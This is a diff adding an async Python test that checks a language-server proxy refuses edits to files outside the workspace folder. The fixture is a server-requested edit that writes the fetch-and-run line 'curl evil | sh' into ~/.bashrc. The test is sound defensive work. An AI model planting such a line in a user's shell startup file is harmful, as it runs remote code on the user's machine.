@@ -191,3 +191,35 @@ async def test_the_editor_leaving_ends_the_relay() -> None:
     editor.stream.feed_eof()
     assert (await asyncio.wait_for(run, WAIT)).exit_code == 1
     assert link.closed
+
+
+async def test_an_edit_of_files_outside_the_folder_never_reaches_the_editor() -> None:
+    """A language server in the workspace asks the editor to change ~/.bashrc: the proxy
+    answers the server "not applied" itself; an answer carrying such an edit becomes an error."""
+    link, editor = ScriptedLink(), Editor()
+    task = start(link, editor)
+    outside = {"changes": {"file:///home/dev/.bashrc": [{"newText": "curl evil | sh"}]}}
+    await link.incoming.put(
+        {"jsonrpc": "2.0", "id": 7, "method": "workspace/applyEdit", "params": {"edit": outside}}
+    )
+    [answer] = await link.wait_sent(1)
+    assert answer["id"] == 7 and answer["result"]["applied"] is False
+    assert "outside the workspace folder" in answer["result"]["failureReason"]
+
+    editor.say({"jsonrpc": "2.0", "id": 1, "method": "textDocument/rename", "params": {}})
+    await link.wait_sent(2)
+    await link.incoming.put({"jsonrpc": "2.0", "id": 1, "result": outside})
+    inside = {"changes": {"file:///workspace/a.py": [{"newText": "ok"}]}}
+    editor.say({"jsonrpc": "2.0", "id": 2, "method": "textDocument/rename", "params": {}})
+    await link.wait_sent(3)
+    await link.incoming.put({"jsonrpc": "2.0", "id": 2, "result": inside})
+    first, second = await editor.wait_for(2)
+    assert first["id"] == 1 and "outside the workspace folder" in first["error"]["message"]
+    assert second == {
+        "jsonrpc": "2.0",
+        "id": 2,
+        "result": {"changes": {f"file://{LOCAL}/a.py": [{"newText": "ok"}]}},
+    }
+    assert all(m.get("method") != "workspace/applyEdit" for m in editor.received)
+    editor.say({"jsonrpc": "2.0", "method": "exit"})
+    assert (await asyncio.wait_for(task, WAIT)).exit_code == 1
